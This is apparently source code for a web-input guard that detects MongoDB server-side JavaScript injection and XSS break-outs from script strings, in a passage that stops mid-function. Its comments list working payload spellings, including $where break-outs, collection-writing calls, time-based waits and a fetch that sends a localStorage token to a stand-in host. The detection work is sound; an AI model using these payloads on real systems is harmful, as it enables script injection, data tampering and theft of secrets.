// Server-side JavaScript injected into a MongoDB query: the value lands inside a string of a
// $where clause, a mapReduce function or an eval, and MongoDB runs it. Three shapes name
// MongoDB's JavaScript and nothing else (SQL has no `this`, no `db.<collection>`, no Date loop):
//
//   ' && this.password.match(/^a/)//     the break-out quote, a JS connective, then the document (this.)
//   '; return true; var x='             a quote opening the value, ';', then return: the clause's verdict replaced
//   db.users.insert({x:1});              a collection method that writes or runs code, as a statement
//   ;x=new Date();do{}while(new Date()-x<5000)   a busy-wait on the clock (blind, time-based)
//
// The quote must be the value's first: 'a' && this.ok closes and opens a literal of the
// application's own code (a JavaScript snippet in prose), where an injection breaks out once.
import { g32, s32, report } from "./state";
import { wordIs, digitsOnly } from "./keywords";
import { R_SQLI_NOSQL_JAVASCRIPT, R_XSS_JS_BREAKOUT, R_CMDI_EXEC_CALL, K_C_STRONG, K_C_DEFINE_EXEC, KW_MAX_WORD } from "./generated/tables";
import { ST_LEX, LX_WORD, ST_CONTEXT, CTX_QUERY, CTX_FORM, CTX_JSON_ESCAPED, rawEscape } from "./state";

// Region st + ST_SSJS
// (J_THIS, J_DB, J_DATE first: one i64 and one i32 load tell that nothing is pending; J_LAST_END, J_PREV adjacent:
// a word's two stores are one)
const J_THIS: u32 = 0;     // the break-out shape: 1 first quote, 2 and '&' or '|' (half a connective), 3 a connective or ';',
                           // 4 and `this`; 6 ';' after a quote that opened the value (`return` next reports)
const J_DB: u32 = 4;       // db.<name>.<method>(: 1 db, 2 '.', 3 name, 4 '.', 5 a writing or running method
const J_DATE: u32 = 8;     // 1 new, 5 new Date, 2 new Date( (for the rest of the value), 3 and `while` after '}' or ';'
const J_QUOTES: u32 = 12;  // quotes (' or ") seen so far, saturating at 2
const J_THIS_START: u32 = 16;
const J_DB_START: u32 = 20;
const J_STMT: u32 = 24;    // end + 1 of the last ';' (a statement starts after it, or after one space); the value start counts as one
const J_DATE_START: u32 = 28;
const J_LAST_END: u32 = 32;
const J_PREV: u32 = 36;    // the last punctuation byte (not a space)
// (the break-out into a page's script: see jsbWord, jsbPunct)
const JB_MODE: u32 = 40;   // 0 idle; JB_Q..JB_SP a quote read, waiting for what leaves its string; JB_ARMED and up: left it
const JB_START: u32 = 44;  // the break-out's start (its quote, or the '$' of '${'): the report's span starts there
const JB_SINK: u32 = 48;   // a navigation or code sink's progress after the break-out (S_*)

/** Nothing pending: J_THIS, J_DB and J_DATE all zero. */
// @ts-ignore: decorator
@inline function idle(j: usize): bool { return (load<u64>(j, J_THIS) | <u64>load<u32>(j, J_DATE)) == 0; }

/** Collection methods that write, drop or run code (read methods are what questions about MongoDB quote). */
function writingMethod(w: usize, len: u32): bool {
  return wordIs(w, len, "insert") || wordIs(w, len, "insertone") || wordIs(w, len, "insertmany") || wordIs(w, len, "update") ||
    wordIs(w, len, "updateone") || wordIs(w, len, "updatemany") || wordIs(w, len, "remove") || wordIs(w, len, "deleteone") ||
    wordIs(w, len, "deletemany") || wordIs(w, len, "drop") || wordIs(w, len, "dropdatabase") || wordIs(w, len, "mapreduce") ||
    wordIs(w, len, "eval") || wordIs(w, len, "save");
}

/** (inlined in the lexer's dispatch: the common case makes no call) */
// @ts-ignore: decorator
@inline export function ssjsWord(st: usize, j: usize, flags: u64, word: usize, w0: u32, len: u32, start: u32, end: u32, ordinary: bool = false): void {
  if (g32(j, JB_MODE) != 0) jsbWord(st, j, word, len, start, end); // (before J_LAST_END and J_PREV move: it reads them)
  if (g32(j, PH) != 0) phpWord(st, j, flags, word, len, start, end);
  // (nothing pending, the common case: only `db` or `new` can start a shape; a shape added here goes into ssjsOrdinaryShape too)
  // (`ordinary`: scanner.ts's word of a shape ssjsOrdinaryShape passes)
  // (J_PREV takes the word's length in bits 8 and up, up to 255: no byte compares equal to it; phpCall reads it)
  if (idle(j) && (ordinary || (!(len == 2 && w0 == 0x64) && !(len == 3 && w0 == 0x6e)))) {
    store<u64>(j, <u64>end | (<u64>(len < 255 ? len : 255) << 40), J_LAST_END);
  } else ssjsWordFull(st, j, word, w0, len, start, end);
}

/** For scanner.ts's ordinary words: is every word of `len` bytes (15: 15 or more) starting with `w0` no `db` or `new` shape? */
export function ssjsOrdinaryShape(w0: u32, len: u32): bool {
  return !(len == 2 && w0 == 0x64) && !(len == 3 && w0 == 0x6e);
}

function ssjsWordFull(st: usize, j: usize, word: usize, w0: u32, len: u32, start: u32, end: u32): void {
  const adjacent = g32(j, J_LAST_END) == start;
  s32(j, J_LAST_END, end);
  // ' && this
  const t = g32(j, J_THIS);
  const isReturn = len == 6 && wordIs(word, len, "return");
  if ((t == 3 || t == 6) && len == 4 && wordIs(word, len, "this")) s32(j, J_THIS, 4);
  else if (t == 6 && isReturn) { report(st, R_SQLI_NOSQL_JAVASCRIPT, g32(j, J_THIS_START), end); s32(j, J_THIS, 0); }
  else if (!(t == 3 && isReturn)) s32(j, J_THIS, 0);
  // db.name.method(
  const d = g32(j, J_DB);
  const stmt = g32(j, J_STMT);
  if (d == 0 && len == 2 && w0 == 0x64 && load<u8>(word + 1) == 0x62 && (start == 0 || (stmt != 0 && (stmt - 1 == start || stmt == start)))) {
    s32(j, J_DB, 1); s32(j, J_DB_START, start);
  }
  else if (d == 2 && adjacent) s32(j, J_DB, 3);
  else if (d == 4 && adjacent && len >= 4 && len <= 12 && writingMethod(word, len)) s32(j, J_DB, 5);
  else s32(j, J_DB, 0);
  // new Date ... while (
  const n = g32(j, J_DATE);
  if (n != 2 && len == 3 && wordIs(word, len, "new")) { s32(j, J_DATE, 1); s32(j, J_DATE_START, start); }
  else if (n == 1 && len == 4 && wordIs(word, len, "date")) s32(j, J_DATE, 5);
  else if (n == 2 && len == 5 && wordIs(word, len, "while") && (g32(j, J_PREV) == 0x7d || g32(j, J_PREV) == 0x3b)) s32(j, J_DATE, 3); // do{…}while  ;while
  else if (n != 2) s32(j, J_DATE, 0);
  s32(j, J_PREV, (len < 255 ? len : 255) << 8); // (while must follow '}' or ';' itself, not a word after one; the length: see ssjsWord)
}

/** (inlined in the lexer's dispatch: the common case makes no call) */
// @ts-ignore: decorator
@inline export function ssjsPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  // (a quote, a backtick or the '{' of '${' may start a break-out; emitSpace's constant 0x20 folds these tests to the mode's)
  if (g32(j, JB_MODE) != 0 || c == 0x27 || c == 0x22 || c == 0x60 || c == 0x7b) jsbPunct(st, j, c, start, end);
  // (PHP's shapes: a '(' or a break-out byte starts one, any byte goes on with one under way; before J_PREV moves)
  if (g32(j, PH) != 0 || (c < 0x40 && ((PH_BYTES >> <u64>c) & 1) != 0) || c == 0x7b) phpPunct(st, j, c, start, end);
  if (c == 0x20) return; // spaces separate the parts of every shape
  // (nothing pending and no quote or ';' to count: the common case)
  if (idle(j) && c != 0x27 && c != 0x22 && c != 0x3b) {
    s32(j, J_LAST_END, end); s32(j, J_PREV, c);
  } else ssjsPunctFull(st, j, c, start, end);
}

function ssjsPunctFull(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  const adjacent = g32(j, J_LAST_END) == start;
  s32(j, J_LAST_END, end);
  // ' && this.
  const t = g32(j, J_THIS);
  if (c == 0x27 || c == 0x22) {
    const q = g32(j, J_QUOTES);
    s32(j, J_QUOTES, q < 2 ? q + 1 : 2);
    s32(j, J_THIS, q == 0 ? 1 : 0);
    if (q == 0) s32(j, J_THIS_START, start);
  } else if (t == 1 && (c == 0x26 || c == 0x7c)) s32(j, J_THIS, 2);
  else if (t == 2 && adjacent && (c == 0x26 || c == 0x7c)) s32(j, J_THIS, 3);
  else if (t == 1 && c == 0x3b) s32(j, J_THIS, g32(j, J_THIS_START) == 0 ? 6 : 3);
  else if (t == 4 && adjacent && c == 0x2e) { report(st, R_SQLI_NOSQL_JAVASCRIPT, g32(j, J_THIS_START), end); s32(j, J_THIS, 0); }
  else s32(j, J_THIS, 0);
  // db.name.method(
  const d = g32(j, J_DB);
  if ((d == 1 || d == 3) && adjacent && c == 0x2e) s32(j, J_DB, d + 1);
  else if (d == 5 && adjacent && c == 0x28) { report(st, R_SQLI_NOSQL_JAVASCRIPT, g32(j, J_DB_START), end); s32(j, J_DB, 0); }
  else s32(j, J_DB, 0);
  if (c == 0x3b) s32(j, J_STMT, end + 1);
  // new Date ... while (
  const n = g32(j, J_DATE);
  if (n == 3 && c == 0x28) { report(st, R_SQLI_NOSQL_JAVASCRIPT, g32(j, J_DATE_START), end); s32(j, J_DATE, 2); }
  else if (n == 3) s32(j, J_DATE, 2);
  else if (n == 5) s32(j, J_DATE, adjacent && c == 0x28 ? 2 : 0); // (the constructor called: "a new date while (...)" is English)
  else if (n == 1) s32(j, J_DATE, 0);
  s32(j, J_PREV, c);
}

// ---------------------------------------------------------------------------------------------------------------------
// The same break-out in a page's own script (the value lands in var q = '<v>'; or `Hi <v>`): once a quote or backtick
// has left its string, or a '${' opened a template's expression, the value's code runs in the page. xss.ts reports a
// name called or location assigned right after the operator that leaves the string (';f(  '-location=); this reads the
// rest of the value for the sinks that navigate to a script URL or load a module, in the spellings that step misses
// (each runs script named by window.name, which the attacker sets, or by the URL's fragment, which the server never sees):
//
//   ';import(name)//   '-import(name)-'   ${import(name)}          a module from a computed specifier (a name, an
//   ';import(''+name)//  ';import(`${name}`)//                      expression, a string added to or interpolated)
//   ';location = name//  ${location=name}  ';(location=name)//     location assigned, spaced or not, in any expression,
//   ';location['href']=name//  ';[location]=[name]//  x.location=   through an index, a destructuring or a member,
//   ';location/**/=name//  ';location//x<LF>=name//                 comments anywhere in it, a line comment to its line break
//   ';window['loc'+'ation']=name//  this /**/['loc'+'ation'].href=  a global's member named by pieces, assigned (or its member)
//   ${location.assign(name)}  forEach(location.assign,location)    location's navigating methods, called or handed on
//   '+Object.assign(location,{href:name})+'                       location written by Object.assign or Reflect.set
//   '+Reflect.construct(Function,[name])()+'  Function.call(       a function built from a string, not called by name
//   '+fetch('//x/?'+localStorage.token)+'                          a stored secret read (localStorage. sessionStorage[)
//   ';with(location)href=name//  ${open(name,'_self')}           location as a with's scope, window.open called
//   '+print()+'  ${print()}  '+fetch('//x.example')+'              the window's print and fetch called by their bare names
//
// What leaves the string: the quote (or backtick), then optionally closers ) ] }, inline comments /**/, and an
// operator glued to it (; - + * % | & ^), or whitespace and ';'. A quote with a word or a space and a prose dash after
// it ("-5", it's, 'a' - b) leaves nothing. ? : , < > = ! glued to it, or the word in or instanceof after it, continue an
// expression too ('?import(name):'  ',location=name,'  ' in import(name)//), and so does a line break after it
// ('\nlocation=name\n': JavaScript inserts the ';'); but sentences write them after a quoted word as well ("Did he say
// 'yes'? Location = Paris", a quoted line and a line of prose after it), so these leave the string weakly: only the
// unspaced sinks count (location=x, import(x), not location = x) until a ';' or a '${' comes. A line break after a quote
// that is the value's first byte (it opens no quoted word there: '\nlocation = name\n') leaves it as ';' does.
// Once left, the value stays script to its end.
// The sinks need a shape prose has no use for: "Import (name) from file" and "location = Paris" hold no break-out before
// them; "location == x", "location.reload()", import('./mod.js') (a path: xss.ts reads a string's URL) and import.meta
// are no sink.

// JB_MODE before the break-out (a quote's wait)
const JB_Q: u32 = 1;       // a quote (or backtick) just read, or closers or a comment after it
const JB_SL: u32 = 2;      // and '/': a comment may open
const JB_CMT: u32 = 3;     // inside /* */
const JB_STAR: u32 = 4;    // and '*': '/' closes it
const JB_SP: u32 = 5;      // spaces after the quote: only ';' or a line break leaves the string now
const JB_NL: u32 = 6;      // a line break after the quote: ';' leaves it; anything else leaves it weakly (JB_WEAK)
const JB_NL_FIRST: u32 = 7; // the same after a quote that is the value's first byte: it can only close a string, so anything leaves it
const JB_LINE: u32 = 8;    // a // comment after the quote: the line break that ends it is one after the quote (JB_NL); a quote restarts the wait
const JB_ARMED: u32 = 16;  // the string left (to the value's end); the bits above it:
const JB_WEAK: u32 = 32;   // left weakly (a line break, ? : , < > = ! in instanceof): spaced sinks do not count
const JB_ASL: u32 = 64;    // a '/' just read: '*' opens a comment (the sink's progress kept), anything else divides
const JB_ACMT: u32 = 128;  // inside /* */ (the sink's progress kept)
const JB_ASTAR: u32 = 256; // and '*'
const JB_ALINE: u32 = 512; // inside a // comment with a sink under way (location//x<LF>=name): to the line break, the progress kept

// JB_SINK (while armed)
const S_IMPORT: u32 = 1;      // import (not a member: x.import): waiting for '('
const S_IMPORT_P: u32 = 2;    // import(: a string may follow; anything else but ')' reports
const S_IMPORT_S0: u32 = 3;   // import(': a path ('.' '/') is the page's own module; an empty string or any other text is read on
const S_IMPORT_S: u32 = 4;    // import('x  inside the specifier (JB_QUOTE closes it)
const S_IMPORT_D: u32 = 5;    // import(`x$  '{' interpolates
const S_IMPORT_E: u32 = 6;    // import('x'  '+' adds to it (the module named by what is added)
const S_LOC: u32 = 7;         // location: waiting for = [ . or a closer ] } ) or a quote (window['location'])
const S_LOC_EQ: u32 = 8;      // location=: a second '=' or '>' glued is a comparison or an arrow; anything else assigns
const S_LOC_EQ_SP: u32 = 9;   // location = : anything after the spaces assigns
const S_LOC_DOT: u32 = 10;    // location.: assign or replace reports (called or handed on); another member waits for '='
const S_LOC_MEMBER: u32 = 11; // location.href: waiting for '='
const S_LOC_IDX: u32 = 12;    // location[: the index's words and strings, to its ']'
const S_LOC_IDX_END: u32 = 13; // location['href']: '=' assigns, '(' calls (location['assign'](x))
const S_LOC_CLOSE: u32 = 14;  // [location]  {location}  (location)  ['location']: waiting for '=' (or . [ as after location)
const S_ASSIGN: u32 = 15;     // assign set (Object.assign Reflect.set): waiting for '('
const S_ASSIGN_P: u32 = 16;   // assign(: location as the first argument reports
const S_CTOR: u32 = 17;       // construct apply (Reflect.construct Reflect.apply): waiting for '('
const S_CTOR_P: u32 = 18;     // construct(: Function as the first argument reports
const S_FUNC: u32 = 19;       // function: '.' or ')' glued (Function as a value; a ',' after it is prose's: "a function, which")
const S_FUNC_DOT: u32 = 20;   // function.: call apply bind report (Function.call(0, code))
const S_FUNC_CLOSE: u32 = 21; // (Function): '(' calls it
const S_STORE: u32 = 22;      // localStorage sessionStorage: '.' or '[' reads it
const S_WITH: u32 = 23;       // with: waiting for '(' glued
const S_WITH_P: u32 = 24;     // with(: location as the scope reports (with(location)href=name)
const S_OPEN: u32 = 25;       // open print fetch (not a member: xhr.open, doc.print): '(' or '`' glued calls the window's
                              // function (open(name,'_self') runs a javascript: URL in this window; print() opens the print
                              // dialog, the proof where alert is blocked in a cross-origin frame; fetch('//x') is an
                              // out-of-band probe)
const S_IMPORT_PL: u32 = 26;  // import(s: a ')' glued is English's plural marker ("Import(s) and export(s)"); anything else reports
const S_IMPORT_PLD: u32 = 27; // import(s): a space after it (or the end) is the sentence's; code after it ('-import(s)-',
                              // import(s)//) reports
const S_FUNC_SP: u32 = 28;    // function and a space: the name a declaration gives (function open() { is no call)
// window['loc'+'ation']=name: a global's member named by a string built from pieces, assigned. The pieces hide the name
// (location, onerror) from every reading that matches names; code that means a global it knows writes the name.
const S_GLOBAL: u32 = 29;     // window self top parent frames globalThis document this: waiting for '[' (spaces may come first)
const S_GIDX: u32 = 30;       // window[ (or a string of it closed): a literal name so far; ']' ends the reading (xss.ts's)
const S_GIDX_PLUS: u32 = 31;  // window['loc'+ : the name is computed (anything but one string or number: pieces added, a
                              // variable, a call, a template's ${), to its ']'
const S_GIDX_END: u32 = 32;   // window['loc'+'ation']: '=' assigns (as location= does: S_LOC_EQ)
const S_GIDX_S: u32 = 33;     // window[': inside a string of the index (JB_QUOTE its quote)
// A '?' glued after a name that leads to a sink sets this bit on JB_SINK: a '.' glued next makes the optional chain's
// '?.', read as the '.' (or, before '[' or '(', as nothing) that JavaScript reads when the name is there, as location and
// window always are (location?.assign(name), window?.['loc'+'ation'].assign(name), print?.()); anything else after the
// '?' is a conditional's and ends the sink. (An optional chain cannot be assigned to: window?.['loc'+'ation']=name is a
// SyntaxError, but it is the same attempt, so it is read on as the other spellings.)
const S_OPT: u32 = 0x100;

const JB_QUOTE: u32 = 52;  // (a byte) the quote of an import( specifier open (S_IMPORT_S0 .. S_IMPORT_D)
const JB_SEEN: u32 = 53;   // (a byte) the kinds of quote read before the break-out (QB_*): a later one of a kind is no break-out
// (byte 54: state.ts's ST_RAW_ESC; byte 55: decode.ts's TAB_BITS)
const QB_SQ: u32 = 1, QB_DQ: u32 = 2, QB_BT: u32 = 4;

/** A sink found after the break-out: reported from the break-out's start. */
function jsbReport(st: usize, j: usize, end: u32): void {
  report(st, R_XSS_JS_BREAKOUT, g32(j, JB_START), end);
  s32(j, JB_SINK, 0);
}

/**
 * May the quote `c` at [start, end) be the one that leaves the page's string? The value sits inside a string of one kind
 * (' " or `), so the first quote of that kind ends it and any later one opens or closes a string of the value's own code:
 * var id = 'cb1'; window['a' + id] = f holds no break-out (its second quote closes the string its first opened). A quote
 * that the page may read as text opens nothing, so a later quote of its kind can still break out: one escaped by a
 * backslash (\' is ' to an application that adds a backslash before quotes but not before backslashes), and one that
 * only the guard's decoding made (\x27 &#39; a full-width or overlong form); a quote counts as written, as %27 in a
 * query or form (decoded by the server) or as \" in JSON text.
 */
function jsbQuote(st: usize, j: usize, c: u32, start: u32, end: u32): bool {
  const bit = c == 0x27 ? QB_SQ : c == 0x22 ? QB_DQ : QB_BT;
  const seen = <u32>load<u8>(j + JB_SEEN);
  if ((seen & bit) != 0) return false;
  if (g32(j, J_PREV) == 0x5c && g32(j, J_LAST_END) == start) return true;
  const span = end - start, ctx = g32(st, ST_CONTEXT);
  if (span == 1 || (rawEscape(st, start) == 1 &&
      ((span == 3 && (ctx == CTX_QUERY || ctx == CTX_FORM)) || (span == 2 && ctx == CTX_JSON_ESCAPED)))) {
    store<u8>(j + JB_SEEN, <u8>(seen | bit));
  }
  return true;
}

/**
 * A name for the global object or the document (a member of which may be location or a handler); `this` is the global
 * object at a classic script's top level, where a page's var q = '...' usually stands.
 */
function globalName(w: usize, len: u32): bool {
  return wordIs(w, len, "window") || wordIs(w, len, "self") || wordIs(w, len, "top") || wordIs(w, len, "parent") ||
    wordIs(w, len, "frames") || wordIs(w, len, "globalthis") || wordIs(w, len, "document") || wordIs(w, len, "this") ||
    wordIs(w, len, "defaultview");
}

function jsbWord(st: usize, j: usize, word: usize, len: u32, start: u32, end: u32): void {
  let mode = g32(j, JB_MODE);
  if (mode < JB_ARMED) { // a quote's wait: a word inside a comment keeps it; after a line break it leaves weakly; any other word ends it
    // (the operators in and instanceof after the quote leave it weakly, as ',' does: '' in import(name))
    if ((mode == JB_Q || mode == JB_SP) && (wordIs(word, len, "in") || wordIs(word, len, "instanceof"))) {
      s32(j, JB_MODE, JB_ARMED | JB_WEAK); s32(j, JB_SINK, 0); return;
    }
    if (mode != JB_NL && mode != JB_NL_FIRST) { s32(j, JB_MODE, mode == JB_CMT || mode == JB_STAR ? JB_CMT : mode == JB_LINE ? JB_LINE : 0); return; }
    mode = mode == JB_NL ? JB_ARMED | JB_WEAK : JB_ARMED; s32(j, JB_MODE, mode); s32(j, JB_SINK, 0);
  }
  if ((mode & JB_ACMT) != 0) { s32(j, JB_MODE, mode & ~JB_ASTAR); return; }
  if ((mode & JB_ALINE) != 0) return;
  if ((mode & JB_ASL) != 0) { s32(j, JB_MODE, mode & ~JB_ASL); jsbSink(st, j, 0x2f, start); } // (the '/' divided: a/b)
  const s = g32(j, JB_SINK);
  const dotted = g32(j, J_PREV) == 0x2e && g32(j, J_LAST_END) == start;
  let next: u32 = 0;
  if (s == S_LOC_DOT) {
    if (wordIs(word, len, "assign") || wordIs(word, len, "replace")) { jsbReport(st, j, end); return; }
    next = S_LOC_MEMBER;
  }
  else if (s == S_IMPORT_P && len == 1 && load<u8>(word) == 0x73) next = S_IMPORT_PL;
  else if (s == S_IMPORT_P || s == S_IMPORT_PL || s == S_LOC_EQ || s == S_LOC_EQ_SP) { jsbReport(st, j, end); return; } // import(name  location=name
  else if ((s == S_ASSIGN_P || s == S_WITH_P) && wordIs(word, len, "location")) { jsbReport(st, j, end); return; }
  else if (s == S_CTOR_P && wordIs(word, len, "function")) { jsbReport(st, j, end); return; }
  else if (s == S_FUNC_DOT && (wordIs(word, len, "call") || wordIs(word, len, "apply") || wordIs(word, len, "bind"))) { jsbReport(st, j, end); return; }
  else if (s == S_LOC_IDX || (s >= S_IMPORT_S0 && s <= S_IMPORT_D)) next = s == S_LOC_IDX ? s : S_IMPORT_S; // (text inside)
  else if (s == S_GIDX_S || s == S_GIDX_PLUS) next = s;
  else if (s == S_GIDX) next = digitsOnly(word, len) ? s : S_GIDX_PLUS; // (window[k]: a variable hides the name as pieces do)
  else if (s == S_FUNC_SP) next = 0; // function open() {: a name declared, not called
  else if (wordIs(word, len, "location")) next = S_LOC;
  else if (wordIs(word, len, "import")) next = dotted ? 0 : S_IMPORT;
  else if (wordIs(word, len, "assign") || wordIs(word, len, "set")) next = S_ASSIGN;
  else if (wordIs(word, len, "construct") || wordIs(word, len, "apply")) next = S_CTOR;
  else if (wordIs(word, len, "function")) next = S_FUNC;
  else if (wordIs(word, len, "with")) next = S_WITH;
  // (the window's own functions that act when called by their bare name; alert confirm prompt are xss.ts's sinks anywhere.
  // Any other name called after '+' or in '${' is how code builds a string, 'Total: '+total()+'!' and `${fmt(d)}`; after
  // the other operators xss.ts reports any call: '-f()-'. print and fetch only after a full break-out: prose puts a comma
  // after a quoted word and then names the call, "`document`, for example a `fetch()` call")
  else if (wordIs(word, len, "open")) next = dotted ? 0 : S_OPEN;
  else if (wordIs(word, len, "print") || wordIs(word, len, "fetch")) next = dotted || (mode & JB_WEAK) != 0 ? 0 : S_OPEN;
  else if (wordIs(word, len, "localstorage") || wordIs(word, len, "sessionstorage")) next = S_STORE;
  else if (globalName(word, len)) next = S_GLOBAL;
  s32(j, JB_SINK, next);
}

function jsbPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  const mode = g32(j, JB_MODE);
  const quote = c == 0x27 || c == 0x22 || c == 0x60;
  const space = c == 0x20 || c == 0x0a;
  // ${ opens a template's expression: script from here (J_PREV and J_LAST_END still hold the byte before this one)
  // (after a weak break-out it makes a full one: ',`${location = name}`)
  if (c == 0x7b && g32(j, J_PREV) == 0x24 && g32(j, J_LAST_END) == start && (mode < JB_ARMED || (mode & (JB_WEAK | JB_ACMT | JB_ALINE)) == JB_WEAK)) {
    if (mode < JB_ARMED) { s32(j, JB_MODE, JB_ARMED); s32(j, JB_START, start - 1); s32(j, JB_SINK, 0); }
    else s32(j, JB_MODE, mode & ~JB_WEAK);
    return;
  }
  if (mode < JB_ARMED) {
    let m: u32 = 0;
    // (a // comment after the quote runs to the line break, which is then one after the quote: ''//x<LF>location=name)
    if (mode == JB_LINE && !quote) m = c == 0x0a ? (g32(j, JB_START) == 0 ? JB_NL_FIRST : JB_NL) : JB_LINE;
    else if (mode == JB_CMT) m = c == 0x2a ? JB_STAR : JB_CMT;
    else if (mode == JB_STAR) m = c == 0x2f ? JB_Q : c == 0x2a ? JB_STAR : JB_CMT;
    // (a quote that cannot break out: the wait ends, or a // comment's goes on, the quote its text)
    else if (quote) {
      if (jsbQuote(st, j, c, start, end)) { m = JB_Q; s32(j, JB_START, start); }
      else m = mode == JB_LINE ? JB_LINE : 0;
    }
    else if (mode == JB_SL) m = c == 0x2a ? JB_CMT : c == 0x2f ? JB_LINE : 0;
    else if (mode >= JB_NL && space) m = mode; // (JB_NL JB_NL_FIRST)
    else if (c == 0x0a) m = g32(j, JB_START) == 0 ? JB_NL_FIRST : JB_NL;
    else if (space) m = JB_SP;
    else if (c == 0x3b || (mode == JB_Q && (c == 0x2d || c == 0x2b || c == 0x2a || c == 0x25 || c == 0x7c || c == 0x26 || c == 0x5e))) {
      m = JB_ARMED; s32(j, JB_SINK, 0);
    }
    else if (mode == JB_Q && (c == 0x29 || c == 0x5d || c == 0x7d)) m = JB_Q; // ')}; '];
    // the other operators that continue an expression after a string ('' ? x : y, '' < x, '' == x, '' , x): sentences put
    // them after a quoted word too ('yes'? 'a', 'b'), so they leave the string weakly, as a line break does
    else if (mode == JB_Q && (c == 0x2c || c == 0x3f || c == 0x3a || c == 0x3c || c == 0x3e || c == 0x3d || c == 0x21)) {
      m = JB_ARMED | JB_WEAK; s32(j, JB_SINK, 0);
    }
    else if (mode == JB_Q && c == 0x2f) m = JB_SL;
    else if (mode >= JB_NL) { // '\n[location]=
      s32(j, JB_MODE, mode == JB_NL ? JB_ARMED | JB_WEAK : JB_ARMED); s32(j, JB_SINK, 0); jsbArmedPunct(st, j, c, start, end); return;
    }
    s32(j, JB_MODE, m);
    return;
  }
  jsbArmedPunct(st, j, c, start, end);
}

/** Punctuation after the break-out: comments skipped (the sink's progress kept through them), the rest to jsbSink. */
function jsbArmedPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  let mode = g32(j, JB_MODE);
  if ((mode & JB_ACMT) != 0) {
    if ((mode & JB_ASTAR) != 0 && c == 0x2f) mode &= ~(JB_ACMT | JB_ASTAR);
    else mode = c == 0x2a ? mode | JB_ASTAR : mode & ~JB_ASTAR;
    s32(j, JB_MODE, mode);
    return;
  }
  if ((mode & JB_ALINE) != 0) {
    if (c != 0x0a) return;
    mode &= ~JB_ALINE; // (the line break then spaces the sink's parts, as any other)
    s32(j, JB_MODE, mode);
  }
  if ((mode & JB_ASL) != 0) {
    mode &= ~JB_ASL;
    if (c == 0x2a) { s32(j, JB_MODE, mode | JB_ACMT); return; }
    // '//' with a sink under way (outside any string: not in an index or a specifier, whose text may hold '//'): a
    // line comment, skipped to its line break; with none, the '/' divides as before
    const sk = g32(j, JB_SINK);
    if (c == 0x2f && sk != 0 && sk != S_LOC_IDX && sk != S_GIDX && sk != S_GIDX_PLUS && sk != S_GIDX_S) { s32(j, JB_MODE, mode | JB_ALINE); return; }
    s32(j, JB_MODE, mode);
    jsbSink(st, j, 0x2f, start); // (the '/' divided, or began a // comment)
  }
  // (inside an import( specifier ';' and '/' are its text)
  const inSpecifier = g32(j, JB_SINK) >= S_IMPORT_S0 && g32(j, JB_SINK) <= S_IMPORT_D;
  if (c == 0x3b && !inSpecifier) s32(j, JB_MODE, mode & ~JB_WEAK); // a statement after the line break: spaced sinks count
  if (c == 0x2f && !inSpecifier) { s32(j, JB_MODE, mode | JB_ASL); return; }
  jsbSink(st, j, c, end);
}

/** A punctuation byte to the sink's progress (`end`: where a report ends). */
function jsbSink(st: usize, j: usize, c: u32, end: u32): void {
  const s = g32(j, JB_SINK);
  if (s == 0) return;
  const quote = c == 0x27 || c == 0x22 || c == 0x60;
  const space = c == 0x20 || c == 0x0a;
  const weak = (g32(j, JB_MODE) & JB_WEAK) != 0;
  let next: u32 = 0;
  if ((s & S_OPT) != 0) { // window?  location?  print?  and then '.'
    const b = s & ~S_OPT;
    next = c != 0x2e ? 0 : b == S_LOC || b == S_LOC_CLOSE || b == S_GIDX_END ? S_LOC_DOT : b;
  }
  else if (c == 0x3f && (s == S_GLOBAL || s == S_LOC || s == S_LOC_CLOSE || s == S_GIDX_END || s == S_LOC_IDX_END || s == S_OPEN ||
           s == S_FUNC_CLOSE)) next = s | S_OPT;
  else if (s == S_IMPORT) next = space ? (weak ? 0 : s) : c == 0x28 ? S_IMPORT_P : 0;
  else if (s == S_IMPORT_P) {
    if (space) next = s;
    else if (quote) { next = S_IMPORT_S0; store<u8>(j + JB_QUOTE, <u8>c); }
    else if (c != 0x29) { jsbReport(st, j, end); return; } // import((location+'')...  import(document.URL...
  }
  else if (s >= S_IMPORT_S0 && s <= S_IMPORT_D) {
    const q = <u32>load<u8>(j + JB_QUOTE);
    if (s == S_IMPORT_D && c == 0x7b) { jsbReport(st, j, end); return; } // import(`${name}`)
    if (c == q) next = S_IMPORT_E;
    else if (s == S_IMPORT_S0 && (c == 0x2e || c == 0x2f)) next = 0; // import('./m.js')  import('/m.js')
    else next = q == 0x60 && c == 0x24 ? S_IMPORT_D : S_IMPORT_S;
  }
  else if (s == S_IMPORT_PL) {
    if (c != 0x29) { jsbReport(st, j, end); return; }
    next = S_IMPORT_PLD;
  }
  else if (s == S_IMPORT_PLD && !space) { jsbReport(st, j, end); return; }
  else if (s == S_IMPORT_E) {
    if (space) next = s;
    else if (c == 0x2b) { jsbReport(st, j, end); return; } // import(''+name)
  }
  else if (s == S_LOC || s == S_LOC_MEMBER || s == S_LOC_CLOSE || s == S_LOC_IDX_END) {
    if (space) next = weak ? 0 : s;
    else if (c == 0x3d) next = S_LOC_EQ;
    else if ((s == S_LOC || s == S_LOC_CLOSE) && c == 0x5b) next = S_LOC_IDX;
    else if ((s == S_LOC || s == S_LOC_CLOSE) && c == 0x2e) next = S_LOC_DOT;
    else if ((s == S_LOC || s == S_LOC_CLOSE) && (c == 0x5d || c == 0x7d || c == 0x29 || quote)) next = S_LOC_CLOSE;
    else if (s == S_LOC_IDX_END && c == 0x28) { jsbReport(st, j, end); return; }
  }
  else if (s == S_LOC_EQ) {
    if (space) next = weak ? 0 : S_LOC_EQ_SP;
    else if (c != 0x3d && c != 0x3e) { jsbReport(st, j, end); return; } // (== === => compare or define a function)
  }
  else if (s == S_LOC_EQ_SP) {
    if (space) next = s;
    else { jsbReport(st, j, end); return; } // location = 'jav'+'ascript:...'  location = (x)
  }
  else if (s == S_LOC_DOT) next = space ? s : c == 0x5b ? S_LOC_IDX : 0; // (location?.['assign'](name): '.[' is only ever '?.[')
  else if (s == S_LOC_IDX) next = c == 0x5d ? S_LOC_IDX_END : c == 0x3b ? 0 : s;
  // (spaces, a line break or a comment may stand before the '[': window /**/['loc'+'ation']=)
  // (and ')' closing a parenthesized receiver: (window)['loc'+'ation']=  ((self))[...]  (0,top)[...] are the global as well)
  else if (s == S_GLOBAL) next = c == 0x5b ? S_GIDX : c == 0x29 || (space && !weak) ? s : 0;
